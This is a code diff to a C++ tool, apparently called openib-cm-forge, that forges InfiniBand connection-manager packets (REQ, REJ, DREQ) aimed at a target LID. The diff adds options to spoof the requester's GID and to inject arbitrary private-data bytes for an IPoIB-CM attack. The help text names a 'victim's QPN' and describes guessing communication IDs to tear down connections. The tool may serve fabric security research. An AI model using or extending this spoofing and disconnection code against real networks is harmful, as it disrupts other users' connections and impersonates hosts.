@@ -23,6 +23,7 @@
 // the receiver's answer is about what they say, not how. The last line:
 //   forged REQ N REJ N DREQ N to LID L
 //   openib-cm-forge --lid L --ca-guid G [--qpn Q]... [--comm-id C]... [--dreq-qpn Q]
+#include <arpa/inet.h>
 #include <infiniband/umad.h>
 #include <unistd.h>
 
@@ -48,6 +49,8 @@ struct Opts {
   uint64_t ca_guid = 0, service_id = 0x00000001000000f0ull;  // nobody listens there: REJ 8 unless stale
   uint32_t qpn_first = 1, qpn_last = 4096, qpn_step = 1, dreq_qpn = 0, comm_guesses = 1024;
   int claim_lid = 0;
+  std::string claim_gid;  // REQ primary path's Local Port GID (IPv6 notation)
+  std::string private_hex;  // REQ private data (hex bytes)
   std::vector<uint32_t> qpns, comm_ids;
   bool no_req = false, no_rej = false, no_dreq = false;
   uint64_t seed = 29;
@@ -126,6 +129,11 @@ cm::Req forged_req(const Opts& o, Forger& f, uint32_t qpn) {
   q.primary.subnet_local = true;
   q.primary.hop_limit = 0xff;
   q.primary.local_ack_timeout = 18;
+  // IPoIB-CM (ipoib_cm.sh): the GID claimed, and private data naming a UD QPN.
+  if (!o.claim_gid.empty() && ::inet_pton(AF_INET6, o.claim_gid.c_str(), q.primary.local_gid.data()) != 1)
+    die("not a GID: " + o.claim_gid);
+  for (size_t i = 0; i + 1 < o.private_hex.size() && i / 2 < q.private_data.size(); i += 2)
+    q.private_data[i / 2] = uint8_t(std::stoul(o.private_hex.substr(i, 2), nullptr, 16));
   return q;
 }
 
@@ -145,6 +153,8 @@ int main(int argc, char** argv) {
   app.add_option("--dreq-qpn", o.dreq_qpn, "DREQ Remote QPN/EECN: the victim's QPN");
   app.add_option("-S,--service-id", o.service_id, "REQ Service ID (default 0x00000001000000f0)");
   app.add_option("--claim-lid", o.claim_lid, "REQ primary path's Local Port LID (default: this port's)");
+  app.add_option("--claim-gid", o.claim_gid, "REQ primary path's Local Port GID (default: none)");
+  app.add_option("--private-hex", o.private_hex, "REQ private data, hex bytes (default: none)");
   app.add_option("--repeat", o.repeat, "sends of each real QPN and comm ID (default 3)");
   app.add_option("--pace-us", o.pace_us, "microseconds between MADs (default 300)");
   app.add_option("--sl", o.sl, "SL (default 0)");
